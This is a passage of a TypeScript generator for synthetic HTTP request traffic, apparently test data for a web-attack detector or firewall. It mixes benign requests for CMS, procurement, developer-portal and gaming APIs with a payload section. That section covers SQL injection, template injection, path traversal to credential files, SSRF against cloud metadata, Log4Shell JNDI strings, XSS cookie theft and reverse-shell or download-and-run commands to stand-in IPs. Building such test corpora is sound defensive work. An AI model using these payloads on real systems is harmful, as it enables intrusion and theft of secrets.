            field_byline: name(),
          },
          relationships: { field_section: { data: { type: 'taxonomy_term--sections', id: uuid() } } },
        },
      }),
    ),
  () =>
    C(
      'jsonapi',
      'GET',
      `/cms/jsonapi/node/article?${qs({ 'filter[status]': 1, 'filter[field_section.name]': pick(['Politics', 'Sport', 'Culture & Arts']), include: 'field_image,uid', sort: '-created', 'page[limit]': 20, 'fields[node--article]': 'title,created,path' })}`,
      headers('browser', undefined, { accept: 'application/vnd.api+json' }),
      '',
    ),
  () =>
    C(
      'webhook',
      'POST',
      '/cms/hooks/mailgun',
      headers('sdk', JSONCT, { 'user-agent': 'mailgun/treq-21.5.0' }),
      J({
        signature: { timestamp: String(int(1760000000, 1770000000)), token: hex(50), signature: hex(64) },
        'event-data': {
          event: pick(['opened', 'clicked', 'complained']),
          timestamp: 1764400000.123,
          recipient: email(),
          url: 'https://news.example.com/2026/11/council-budget?utm_source=newsletter&utm_medium=email',
          tags: ['morning-briefing'],
          'user-variables': { edition: 'am' },
        },
      }),
    ),
  () => {
    const m = multipart([
      {
        name: 'alt',
        data: pick([
          'Firefighters at the scene on Elm St.',
          'Le maire de Lyon lors de la conférence',
          'Crowd at the stadium, 2nd half',
        ]),
      },
      { name: 'credit', data: `Photo: ${name()} / Reuters` },
      {
        name: 'image',
        filename: pick(['DSC_0042.JPG', 'fire_elm_st (final).jpg', 'conférence-presse.png']),
        type: 'image/jpeg',
        data: '\u00ff\u00d8\u00ff\u00e1\u0000\u0018Exif\u0000\u0000MM\u0000*',
      },
    ]);
    return C('multipart', 'POST', '/cms/api/media', headers('browser', m.ct), m.body);
  },
  () =>
    C(
      'i18n',
      'POST',
      `/cms/api/articles/${int(10000, 99999)}/translations`,
      headers('browser', JSONU),
      J({
        locale: pick(['de', 'fr', 'es', 'ar', 'zh-Hans']),
        headline: pick([
          'Stadtrat beschließt Haushalt nach neunstündiger Sitzung',
          'Le conseil municipal adopte le budget',
          'El ayuntamiento aprueba el presupuesto',
          'مجلس المدينة يقر الميزانية',
          '市议会经过九小时会议通过预算',
        ]),
        summary: pick([
          'Mit 7:2 Stimmen – „ein Kompromiss“, sagt die Bürgermeisterin.',
          "« Ce n'est pas parfait », a déclaré l'adjoint.",
          'Votación 7–2; el transporte público sube un 4 %.',
        ]),
      }),
    ),
);

// --- procurement & invoices
add(
  () =>
    C(
      'rest-write',
      'POST',
      '/api/procurement/purchase-orders',
      headers('browser', JSONCT),
      J({
        supplierId: `SUP-${int(1000, 9999)}`,
        currency: pick(['EUR', 'USD', 'GBP']),
        deliverTo: {
          site: pick(['Plant 2 - Gate B', 'HQ, 3rd floor (Reception)', 'Warehouse #4']),
          attn: name(),
        },
        lines: Array.from({ length: int(1, 4) }, (_, i) => ({
          line: i + 1,
          sku: `${alnum(3).toUpperCase()}-${int(100, 999)}`,
          description: pick([
            'Nitrile gloves, size L (box/100)',
            'Dell U2723QE 27" monitor',
            'M8 x 40mm hex bolts, A2 stainless',
            'Printer toner HP 59A - black',
          ]),
          qty: int(1, 200),
          unitPrice: money(1, 800),
          taxCode: pick(['S20', 'Z0', 'EX']),
        })),
        notes: pick(PROSE_PROC),
      }),
    ),
  () =>
    C(
      'json-patch',
      'PATCH',
      `/api/procurement/invoices/INV-2026-${int(1000, 9999)}`,
      headers('sdk', 'application/json-patch+json'),
      J([
        { op: 'replace', path: '/lines/1/quantity', value: 10 },
        { op: 'replace', path: '/lines/1/unitPrice', value: '32.00' },
        { op: 'copy', from: '/billingAddress', path: '/shippingAddress' },
        { op: 'add', path: '/notes', value: 'Corrected per credit note CN-0088' },
      ]),
    ),
  () =>
    C(
      'form',
      'POST',
      '/procurement/approve',
      headers('browser', 'application/x-www-form-urlencoded'),
      form({
        invoice: `INV-2026-${int(1000, 9999)}`,
        decision: pick(['approve', 'reject', 'hold']),
        comment: pick(PROSE_PROC),
        'cost_center[]': 'CC-4401',
        _token: alnum(40),
      }),
    ),
  () =>
    C(
      'ndjson',
      'POST',
      '/api/procurement/catalog/import',
      headers('curl', 'application/x-ndjson'),
      `${Array.from({ length: int(3, 5) }, () => J({ sku: `${alnum(3).toUpperCase()}-${int(100, 999)}`, name: pick(['Copy paper A4 80g/m² (5x500)', 'USB-C cable 2m, 100W', 'Safety boots S3 — size 44', 'Coffee beans 1kg "House blend"']), price: money(2, 300), uom: pick(['EA', 'BOX', 'PK']), leadTimeDays: int(1, 30) })).join('\n')}\n`,
    ),
  () =>
    C(
      'code',
      'PUT',
      `/api/procurement/templates/${pick(['po-email', 'remittance-advice', 'reminder'])}`,
      headers('browser', JSONCT),
      J({
        template: {
          subject: 'Purchase order {{po.number}} from {{company.name}}',
          source:
            'Dear {{supplier.contactName}},\n\nPlease find attached PO {{po.number}} dated {{formatDate po.date "DD/MM/YYYY"}}.\n{{#each po.lines}}\n- {{this.qty}} x {{this.description}} @ {{currency this.unitPrice}}\n{{/each}}\n\nKind regards,\n{{buyer.name}}\n',
          engine: 'handlebars',
        },
      }),
    ),
  () =>
    C(
      'webhook',
      'POST',
      '/hooks/xero',
      headers('sdk', JSONCT, { 'user-agent': 'Xero-Webhooks', 'x-xero-signature': b64(hex(32)) }),
      J({
        events: [
          {
            resourceUrl: `https://api.xero.com/api.xro/2.0/Invoices/${uuid()}`,
            resourceId: uuid(),
            eventDateUtc: ts(),
            eventType: pick(['CREATE', 'UPDATE']),
            eventCategory: 'INVOICE',
            tenantId: uuid(),
            tenantType: 'ORGANISATION',
          },
        ],
        firstEventSequence: int(1, 900),
        lastEventSequence: int(901, 999),
        entropy: alnum(20).toUpperCase(),
      }),
    ),
  () =>
    C(
      'search',
      'GET',
      `/api/procurement/invoices?${qs({ status: pick(['open', 'overdue', 'paid']), supplier: pick(['Müller & Söhne GmbH', 'AT&T', "Dunn's Hardware", "O'Reilly Media"]), amount_gte: int(100, 5000), due_before: day(), sort: 'due_date' })}`,
      headers('browser'),
      '',
    ),
);

// --- developer portal
add(
  () =>
    C(
      'rest-write',
      'POST',
      '/portal/api/apps',
      headers('browser', JSONCT),
      J({
        name: pick(['billing-sync', 'My Test App', 'zapier-integration (prod)', 'intern_project_v2']),
        description: pick([
          'Syncs invoices nightly via cron (0 2 * * *)',
          'POC for the mobile team',
          'Reads /v2/charges and writes to our DWH',
        ]),
        redirectUris: ['https://localhost:3000/callback', 'https://app.mycompany.io/oauth/callback'],
        scopes: ['charges:read', 'customers:read'],
        allowedOrigins: ['https://app.mycompany.io'],
      }),
    ),
  () =>
    C(
      'rest-write',
      'POST',
      `/portal/api/apps/${uuid()}/keys`,
      headers('curl', JSONCT),
      J({
        label: pick(['ci-github-actions', 'staging', 'laptop - delete me']),
        expiresInDays: pick([30, 90, 365]),
        ipAllowlist: ['203.0.113.0/24', '198.51.100.17'],
      }),
    ),
  () => C('delete', 'DELETE', `/portal/api/keys/key_${alnum(20)}`, headers('curl'), ''),
  () =>
    C(
      'prose',
      'POST',
      '/portal/api/docs/feedback',
      headers('browser', JSONCT),
      J({
        page: pick(['/docs/api/charges#create', '/docs/guides/pagination', '/docs/webhooks/signatures']),
        helpful: rng() > 0.5,
        comment: pick(PROSE_DEV),
      }),
    ),
  () =>
    C(
      'code',
      'POST',
      '/portal/api/snippets',
      headers('browser', JSONCT),
      J({
        title: pick([
          'Verify webhook signature (Node)',
          'Retry with backoff',
          'List all charges (curl)',
          'Nginx proxy config',
        ]),
        snippet: {
          language: pick(['javascript', 'bash', 'nginx']),
          source: pick([
            "import crypto from 'node:crypto';\n\nexport function verify(payload, header, secret) {\n  const [t, v1] = header.split(',').map((p) => p.split('=')[1]);\n  const mac = crypto.createHmac('sha256', secret).update(`${t}.${payload}`).digest('hex');\n  return crypto.timingSafeEqual(Buffer.from(mac), Buffer.from(v1));\n}\n",
            '#!/usr/bin/env bash\nset -euo pipefail\ncurl -sS https://api.example.com/v2/charges?limit=100 \\\n  -H "Authorization: Bearer $API_KEY" \\\n  | jq -r \'.data[] | [.id, .amount] | @tsv\' > charges.tsv\n',
            'location /api/ {\n    proxy_pass http://upstream_api;\n    proxy_set_header Host $host;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    proxy_read_timeout 30s;\n}\n',
            'for attempt in range(5):\n    r = session.post(url, json=body, timeout=10)\n    if r.status_code != 429:\n        break\n    time.sleep(2 ** attempt)\n',
          ]),
        },
        public: true,
      }),
    ),
  () =>
    C(
      'search',
      'GET',
      `/portal/api/usage?${qs({ app: uuid(), granularity: pick(['hour', 'day']), from: day(), to: day(), 'group_by[]': pick(['endpoint', 'status_code']), endpoint: pick(['/v2/charges', '/v2/customers/{id}', '*']) })}`,
      headers('sdk'),
      '',
    ),
  () =>
    C(
      'webhook',
      'POST',
      '/portal/hooks/github',
      headers('sdk', JSONCT, {
        'user-agent': `GitHub-Hookshot/${hex(7)}`,
        'x-github-event': 'issue_comment',
        'x-github-delivery': uuid(),
        'x-hub-signature-256': `sha256=${hex(64)}`,
      }),
      J({
        action: 'created',
        issue: {
          number: int(10, 999),
          title: pick([
            'SDK throws on 204 No Content',
            'Docs: missing pagination example',
            "TypeError: Cannot read properties of undefined (reading 'data')",
          ]),
          state: 'open',
          labels: [{ name: 'bug' }],
        },
        comment: {
          id: int(1000000000, 2999999999),
          body: pick([
            'Repro:\n```js\nconst res = await client.keys.delete(id);\nconsole.log(res.data); // TypeError here\n```\nAPI returns `204` with empty body.',
            'Same here on v4.2.0, downgrading to 4.1.3 fixes it. `npm i @example/sdk@4.1.3`',
            '+1, any ETA? our CI is red 😬',
          ]),
          user: { login: pick(['octocat', 'dev-priya', 'sjonas']) },
        },
        repository: { full_name: 'example/sdk-node' },
      }),
    ),
  () =>
    C(
      'graphql',
      'POST',
      '/portal/graphql',
      headers('sdk', 'application/graphql'),
      `query {\n  viewer {\n    apps(first: 10) {\n      nodes { id name keys { id prefix lastUsedAt } }\n    }\n  }\n}\n`,
    ),
);

// --- gaming community
add(
  () =>
    C(
      'rest-write',
      'POST',
      '/api/clans',
      headers('browser', JSONCT),
      J({
        tag: pick(['NOVA', 'xXx', 'GG', 'ÆON', '404']),
        name: pick(['Nova Esports', 'The Drop Tables', 'Los Pibes', 'Night Owls 🦉', '[Ø] Null Pointer']),
        region: pick(['EU', 'NA', 'SA', 'APAC']),
        recruiting: true,
        description: pick(PROSE_GAMING),
        minRank: pick(['Gold', 'Diamond']),
      }),
    ),
  () =>
    C(
      'rest-write',
      'POST',
      '/api/matches/reports',
      headers('sdk', JSONCT, { 'user-agent': 'GameServer/1.9.4 (Linux)' }),
      J({
        matchId: uuid(),
        map: pick(['de_dust2', "Summoner's Rift", 'Erangel', 'Ascent']),
        mode: pick(['ranked', 'casual']),
        durationSec: int(600, 3000),
        teams: [
          {
            id: 'A',
            score: int(0, 16),
            players: [
              {
                steamId: `7656119${int(1000000000, 9999999999)}`,
                kills: int(0, 40),
                deaths: int(0, 30),
                name: pick(['xX_Sn1per_Xx', '<Ghost>', "D'Artagnan", 'ñandú', 'DROP_TABLE_bob']),
              },
            ],
          },
          { id: 'B', score: int(0, 16), players: [] },
        ],
        reportedIssues: pick([[], ['lag'], ['cheating:suspected']]),
      }),
    ),
  () =>
    C(
      'prose',
      'POST',
      `/api/clans/${int(100, 9999)}/posts`,
      headers('mobile', JSONCT),
      J({ text: pick(PROSE_GAMING), mentions: pick([[], ['@ghost'], ['@everyone']]) }),
    ),
  () => {
    const m = multipart([
      {
        name: 'title',
        data: pick(['Better HUD v2.1', 'Realistic Weather Overhaul', 'ñ-fix for Spanish keyboards']),
      },
      { name: 'version', data: `${int(1, 3)}.${int(0, 9)}.${int(0, 9)}` },
      {
        name: 'changelog',
        data: '- fixed crash on startup (ModLoader.Init)\n- removed deprecated hooks\n- config moved to mods/better_hud/config.json',
      },
      {
        name: 'archive',
        filename: pick(['better_hud_v2.1.zip', 'weather-overhaul (1).zip', 'mod.7z']),
        type: 'application/zip',
        data: 'PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000',
      },
    ]);
    return C('multipart', 'POST', '/api/mods/upload', headers('browser', m.ct), m.body);
  },
  () =>
    C(
      'code',
      'PUT',
      `/api/mods/${int(1000, 9999)}/config`,
      headers('browser', JSONCT),
      J({
        script: {
          language: 'lua',
          source: pick([
            'local M = {}\n\nfunction M.on_spawn(player)\n  if player.health < 50 then\n    player:heal(25)\n  end\n  print("spawned: " .. player.name)\nend\n\nreturn M\n',
            '-- keybinds\nbind("F5", function() ui.toggle("scoreboard") end)\nbind("Ctrl+Shift+D", function() debug.overlay(not debug.visible) end)\n',
          ]),
        },
        settingsYaml: 'hud:\n  scale: 1.25\n  position: top-left\n  show_fps: true\n',
      }),
    ),
  () =>
    C(
      'search',
      'GET',
      `/api/players/search?${qs({ name: pick(['xX_Sn1per', 'ñandú', '<Ghost>', "o'neil", '李']), region: pick(['EU', 'NA']), rank_min: pick(['Silver', 'Gold']) })}`,
      headers('mobile'),
      '',
    ),
  () =>
    C(
      'graphql',
      'POST',
      '/graphql',
      headers('mobile', JSONCT),
      J({
        query:
          'mutation JoinClan($clanId: ID!, $message: String) { requestJoin(clanId: $clanId, message: $message) { id status } }',
        variables: {
          clanId: String(int(100, 9999)),
          message: pick([
            'hey, played with you guys last night, add me pls',
            'Diamond II main support 😇',
            'sup',
          ]),
        },
      }),
    ),
  () =>
    C(
      'webhook',
      'POST',
      '/hooks/twitch',
      headers('sdk', JSONCT, {
        'user-agent': 'Twitch-Eventsub/1.0',
        'twitch-eventsub-message-id': uuid(),
        'twitch-eventsub-message-type': 'notification',
        'twitch-eventsub-message-signature': `sha256=${hex(64)}`,
      }),
      J({
        subscription: {
          id: uuid(),
          type: 'stream.online',
          version: '1',
          status: 'enabled',
          condition: { broadcaster_user_id: String(int(10000000, 99999999)) },
          created_at: ts(),
        },
        event: {
          id: String(int(1000000000, 9999999999)),
          broadcaster_user_login: pick(['nova_esports', 'ghostplays']),
          type: 'live',
          started_at: ts(),
        },
      }),
    ),
  () =>
    C(
      'i18n',
      'PATCH',
      '/api/me/profile',
      headers('mobile', 'application/merge-patch+json'),
      J({
        bio: pick([
          'Jugador competitivo desde 2015 🇦🇷 — main support',
          'Спортсмен, стример, люблю шутеры',
          'ゲーム大好き！よろしくお願いします🎮',
          'Stream tous les soirs à 21h, venez nombreux !',
          '한국 서버 플래티넘 / 영어 가능',
        ]),
        country: pick(['AR', 'RU', 'JP', 'FR', 'KR']),
      }),
    ),
);

// --- extra prose/code/i18n variety
add(
  () =>
    C(
      'prose',
      'POST',
      '/support/api/tickets',
      headers('browser', JSONCT),
      J({
        product: pick(['payroll', 'claims', 'fleet', 'portal']),
        subject: pick(['Export fails', 'Login loop', 'Cannot delete draft']),
        body: pick([
          "Steps: 1) open Reports 2) select 'All employees' 3) click Export -> spinner forever. Console says:\n\nUncaught (in promise) Error: Request failed with status code 500\n    at createError (axios.js:1:1234)\n\nChrome 131, Win 11.",
          "After the update I get \"ERROR 1062 (23000): Duplicate entry 'E10442' for key 'PRIMARY'\" when saving. Nothing changed on our side.",
          'Tried clearing cache & cookies, incognito, other browser... still redirects to /login?next=%2Fdashboard forever.',
          "Our IT says port 443 is open; `nslookup api.example.com` resolves fine. `curl -v` hangs at 'TLS handshake'. Any ideas?",
          'Pasting the log as asked:\n2026-11-02 09:14:22,114 WARN  [pool-3-thread-1] c.e.sync.Worker - retry 3/5 for job 88231 (timeout after 30000ms)\n2026-11-02 09:14:52,120 ERROR [pool-3-thread-1] c.e.sync.Worker - giving up; see /var/log/sync/worker.log',
        ]),
      }),
    ),
  () =>
    C(
      'code',
      'POST',
      '/portal/api/saved-queries',
      headers('browser', JSONCT),
      J({
        name: pick(['Top endpoints by errors', 'Slow requests last 24h', 'Key usage per app']),
        query: {
          language: 'sql',
          source: pick([
            "SELECT endpoint, COUNT(*) AS errors\nFROM request_log\nWHERE status >= 500 AND ts > now() - interval '1 day'\nGROUP BY endpoint\nORDER BY errors DESC\nLIMIT 20;",
            "SELECT app_id, percentile_cont(0.99) WITHIN GROUP (ORDER BY latency_ms) AS p99\nFROM request_log\nWHERE ts BETWEEN '2026-11-01' AND '2026-11-02'\nGROUP BY app_id;",
            'SELECT k.prefix, a.name, max(l.ts) AS last_used\nFROM api_keys k JOIN apps a ON a.id = k.app_id\nLEFT JOIN request_log l ON l.key_id = k.id\nGROUP BY k.prefix, a.name;',
          ]),
        },
      }),
    ),
  () =>
    C(
      'code',
      'PUT',
      `/api/hr/integrations/${pick(['sftp-export', 'datev', 'adp'])}`,
      headers('sdk', JSONCT),
      J({
        enabled: true,
        schedule: '0 3 * * 1-5',
        config: {
          source: pick([
            'host: sftp.payroll-provider.example\nport: 22\nuser: acme_export\npath: /inbound/acme/\nfile_pattern: "payroll_*.csv"\npgp_recipient: payroll@provider.example\n',
            '[export]\nformat = "DATEV-ASCII"\nencoding = "cp1252"\nseparator = ";"\ninclude_headers = true\n',
          ]),
        },
      }),
    ),
  () =>
    C(
      'i18n',
      'POST',
      '/api/procurement/suppliers',
      headers('browser', JSONU),
      J({
        legalName: pick([
          'Müller & Söhne GmbH',
          "Société Générale d'Équipement SARL",
          'Ömer Yılmaz Tekstil A.Ş.',
          '株式会社サンプル商事',
          'Łódzkie Zakłady Metalowe sp. z o.o.',
          'Ψηφιακές Λύσεις Α.Ε.',
        ]),
        vatId: pick(['DE811907980', 'FR40303265045', 'PL5260250274']),
        address: pick([
          'Königstraße 5, 70173 Stuttgart',
          '12 rue de la Paix, 75002 Paris',
          'ul. Piotrkowska 104, 90-006 Łódź',
        ]),
        contact: { name: name(), email: email() },
      }),
    ),
  () =>
    C(
      'prose',
      'POST',
      `/api/courses/${int(100, 999)}/qa`,
      headers('browser', JSONCT),
      J({
        lesson: int(1, 40),
        question: pick([
          'When I run `SELECT * FROM users WHERE id = 1;` I get "relation users does not exist". I did run the migration script?',
          'Why does `rm -rf ./build && npm run build` work on mac but not in PowerShell? It says Remove-Item parameter cannot be found.',
          'Is it bad practice to use `<div onclick=...>` instead of a button? The instructor does it in video 12.',
          'What\'s the difference between `../` and `./` in the import path? My tests fail with "Cannot find module".',
          'En el ejercicio 5, ¿por qué usamos UNION en vez de JOIN?',
        ]),
      }),
    ),
  () =>
    C(
      'graphql',
      'POST',
      '/cms/graphql',
      headers('browser', JSONCT),
      J({
        query:
          'mutation UpdateDraft($id: ID!, $input: DraftInput!) { updateDraft(id: $id, input: $input) { id updatedAt revision } }',
        variables: {
          id: uuid(),
          input: {
            headline: pick([
              'Storm Ciarán: what we know so far',
              'Kerbside recycling: "it\'s a mess," say residents',
            ]),
            standfirst: 'Updated at 14:05 with police statement.',
            tags: ['weather', 'breaking'],
          },
        },
      }),
    ),
  () =>
    C(
      'merge-patch',
      'PATCH',
      `/api/fleet/bookings/R${int(1000000, 9999999)}`,
      headers('browser', 'application/merge-patch+json'),
      J({
        dropoff: { at: ts() },
        extras: ['additional_driver'],
        additionalDriver: { name: name(), licence: `${alnum(6).toUpperCase()}${int(10000, 99999)}` },
        notes: pick(['Return 1h later pls', 'Will drop at the 24h key box', null]),
      }),
    ),
  () =>
    C(
      'form',
      'POST',
      '/api/clans/apply',
      headers('mobile', 'application/x-www-form-urlencoded'),
      form({
        clan: String(int(100, 9999)),
        ign: pick(['xX_Sn1per_Xx', 'Ghost', 'ñandú']),
        message: pick([
          'hi!! main tank, on most evenings 19-23h',
          'ex-[NOVA], left because of drama lol',
          'can i join? 1.8 K/D, 200h',
        ]),
        agree_rules: 'on',
      }),
    ),
  () =>
    C(
      'cms-html',
      'POST',
      '/api/gaming/guides',
      headers('browser', JSONCT),
      J({
        guide: {
          title: pick(['Beginner guide: economy rounds', 'How to install mods (Windows & Linux)']),
          html: '<h2>Install</h2><ol><li>Download the <code>.zip</code></li><li>Extract to <code>C:\\Games\\MyGame\\mods\\</code> (Windows) or <code>~/.local/share/mygame/mods/</code> (Linux)</li><li>Enable in <em>Settings → Mods</em></li></ol><pre><code class="language-bash">unzip better_hud_v2.1.zip -d ~/.local/share/mygame/mods/\n</code></pre><p>Questions? Ask in <a href="https://discord.gg/example">our Discord</a> 💬</p>',
        },
      }),
    ),
  () =>
    C(
      'delete',
      'DELETE',
      `/v2/claims/CLM-${int(100000, 999999)}/attachments/${uuid()}`,
      headers('mobile'),
      '',
    ),
  () =>
    C(
      'jsonapi',
      'POST',
      '/api/procurement/jsonapi/credit-notes',
      headers('sdk', 'application/vnd.api+json', { accept: 'application/vnd.api+json' }),
      J({
        data: {
          type: 'credit-notes',
          attributes: {
            number: `CN-${int(1000, 9999)}`,
            amount: money(10, 900),
            reason: pick([
              'Damaged on delivery (3 boxes)',
              'Price correction – contract rate',
              'Returned goods; RMA #55120',
            ]),
          },
          relationships: { invoice: { data: { type: 'invoices', id: `INV-2026-${int(1000, 9999)}` } } },
        },
      }),
    ),
  () =>
    C(
      'jsonapi',
      'GET',
      `/api/courses/jsonapi/enrollments?${qs({ 'filter[user]': 'me', include: 'course,course.instructor', 'fields[courses]': 'title,slug,progress', 'page[number]': int(1, 4) })}`,
      headers('mobile', undefined, { accept: 'application/vnd.api+json' }),
      '',
    ),
  () =>
    C(
      'search',
      'GET',
      `/cms/api/search?${qs({ q: pick(['"select committee"', 'drop in crime rate', 'union strike', 'where to vote', 'exec pay row', 'script doctor interview']), section: pick(['news', 'all']), from: day() })}`,
      headers('browser'),
      '',
    ),
);

// ---------------------------------------------------------------- attacks

const FAMILIES = [
  'sql',
  'nosql',
  'template',
  'command',
  'path-traversal',
  'ssrf',
  'prototype-pollution',
  'log4shell',
  'xss',
] as const;
type Family = (typeof FAMILIES)[number];
const TECHNIQUES = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
  'base64',
  'graphql-variable',
  'double-encoded',
  'query-param',
  'header',
  'cookie',
  'form',
  'multipart',
  'embedded',
] as const;
type Technique = (typeof TECHNIQUES)[number];

const PAYLOADS: Record<Exclude<Family, 'nosql' | 'prototype-pollution'>, string[]> = {
  sql: [
    "' OR '1'='1' -- ",
    "E10442' UNION SELECT username,password_hash,NULL FROM users-- -",
    "1;WAITFOR DELAY '0:0:5'--",
    "x' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
    "1' AND extractvalue(1,concat(0x7e,(SELECT @@version)))-- -",
    "admin'--",
    "') OR pg_sleep(5) IS NULL--",
    "1 AND 1=CAST((SELECT string_agg(table_name,',') FROM information_schema.tables) AS int)",
    "due_date,(SELECT CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN 1 ELSE 1/0 END)",
    "'; DROP TABLE invoices;--",
    "-1' UNION ALL SELECT NULL,NULL,concat(email,0x3a,api_key) FROM developers-- -",
    '1) OR 1=1#',
    "x'||(SELECT CASE WHEN 1=1 THEN pg_sleep(4) ELSE pg_sleep(0) END)||'",
    "1' AND 1=(SELECT COUNT(*) FROM sysobjects)--",
    "CLM-1' ; EXEC xp_cmdshell 'whoami'--",
  ],
  template: [
    '{{7*7}}{{config.items()}}',
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()}}",
    "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
    "{{''.__class__.__mro__[1].__subclasses__()[408]('id',shell=True,stdout=-1).communicate()}}",
    '<%= `id` %>',
    "{{config.__class__.__init__.__globals__['os'].popen('env').read()}}",
    '{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}{{x()._module.__builtins__["__import__"]("os").popen("id").read()}}{% endif %}{% endfor %}',
    '*{T(java.lang.System).getenv()}',
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('cat /etc/passwd')\")()}}",
    '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")',
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    '[[${T(java.lang.Runtime).getRuntime().exec("whoami")}]]',
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}{{/with}}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '{php}echo `id`;{/php}',
  ],
  command: [
    '; cat /etc/passwd',
    'report.pdf | id',
    '$(curl -s http://203.0.113.9/x.sh | sh)',
    '`wget -qO- http://198.51.100.44/bot.sh | bash`',
    'eu-west-1 && nc -e /bin/sh 198.51.100.7 4444',
    '127.0.0.1; ping -c 10 127.0.0.1',
    'x || whoami',
    'image.png\nid',
    'a.zip; rm -rf /var/www/html',
    '$(sleep 10)',
    ';bash -c "bash -i >& /dev/tcp/198.51.100.23/9001 0>&1"',
    '& powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/a.ps1\')"',
    '| certutil -urlcache -split -f http://203.0.113.5/a.exe %TEMP%\\a.exe',
    ';${IFS}cat${IFS}/etc/shadow',
    'mod.zip`python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'`',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..\\..\\..\\..\\windows\\win.ini',
    '....//....//....//etc/shadow',
    '/var/www/uploads/../../../proc/self/environ',
    '../../../../app/.env',
    '..%c0%af..%c0%af..%c0%afetc/passwd',
    '../../../../../root/.ssh/id_rsa',
    '../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
    '..;/..;/WEB-INF/web.xml',
    '%2e%2e/%2e%2e/%2e%2e/etc/hosts',
    '../../../../home/node/.aws/credentials',
    '/etc/passwd%00.jpg',
    '..\\..\\..\\inetpub\\wwwroot\\web.config',
    '../../../../../opt/app/config/database.yml',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://127.0.0.1:2375/containers/json',
    'http://[::1]:6379/',
    'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
    'http://0x7f000001/admin',
    'http://2130706433:8500/v1/agent/self',
    'http://localhost:9200/_cat/indices?v',
    'http://169.254.170.2/v2/credentials',
    'dict://127.0.0.1:11211/stats',
    'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
    'http://[fd00:ec2::254]/latest/meta-data/',
    'http://169.254.169.254.nip.io/latest/user-data',
    'http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
    'http://127.1:8080/actuator/env',
  ],
  log4shell: [
    '${jndi:ldap://198.51.100.14:1389/Exploit}',
    '${${lower:j}ndi:${lower:l}dap://c6p2k.oast.example/a}',
    '${jndi:dns://${hostName}.c7f3q1.interact.sh}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.5:1099/Exploit}',
    '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.exfil.example/x}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.3/z}',
    '${jndi:rmi://198.51.100.2:1099/obj}',
    '${j${k8s:k5:-ND}i:ldap://x.oast.example/a}',
    '${jndi:ldaps://203.0.113.77:636/o=tomcat}',
    '${${upper:j}ndi:${upper:l}${upper:d}ap://198.51.100.14/poc}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.8/a}",
    '${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://${sys:java.version}.log.oast.example/}',
  ],
  xss: [
    "<script>fetch('https://evil.example/c?'+document.cookie)</script>",
    '<img src=x onerror=alert(document.domain)>',
    '<svg/onload=eval(atob("ZmV0Y2goJy8vZXZpbC5leGFtcGxlLycrbG9jYWxTdG9yYWdlLnRva2VuKQ=="))>',
    'javascript:alert(document.cookie)',
    '"><iframe src="javascript:alert(1)"></iframe>',
    '<details open ontoggle=fetch("//xss.example/"+document.cookie)>',
    '<a href="jav&#x61;script:alert(1)">open claim</a>',
    '</textarea><script src=https://xss.example/h.js></script>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<input autofocus onfocus=alert(1)>',
    '<body onload=document.location="https://evil.example/?"+document.cookie>',
    "'-alert(document.domain)-'",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  ],
};

/** Where to drop a payload: a domain endpoint with plausible field names. */
interface Target {
  path: string;
  field: string;
  base: Record<string, unknown>;
  textField: string;
  gql: { op: string; type: string; field: string };
}
const TARGETS: Target[] = [
  {
    path: '/api/v1/timesheets/entries',
    field: 'project',
    base: { employeeId: 'E10442', date: '2026-11-03', clockIn: '08:00', clockOut: '16:30' },
    textField: 'note',
    gql: {
      op: 'mutation LogTime($v: String!) { logTime(employeeId: "E10442", project: $v) { id } }',
      type: 'String',
      field: 'v',
    },
  },
  {
    path: '/api/v1/payroll/queries',
    field: 'period',
    base: { subject: 'Payslip question' },
    textField: 'message',
    gql: {
      op: 'query Payslips($v: String!) { payslips(period: $v) { id net } }',
      type: 'String',
      field: 'v',
    },
  },
  {
    path: '/v2/claims/CLM-482201/notes',
    field: 'author',
    base: { visibility: 'internal' },
    textField: 'text',
    gql: {
      op: 'mutation AddNote($v: String!) { addClaimNote(claimId: "CLM-482201", text: $v) { id } }',
      type: 'String',
      field: 'v',
    },
  },
  {
    path: '/v2/claims',
    field: 'policyNumber',
    base: { lossDate: '2026-10-02', lossType: 'water_damage' },
    textField: 'description',
    gql: {
      op: 'query Claim($v: String!) { claims(policyNumber: $v) { id status reserve } }',
      type: 'String',
      field: 'v',
    },
  },
  {
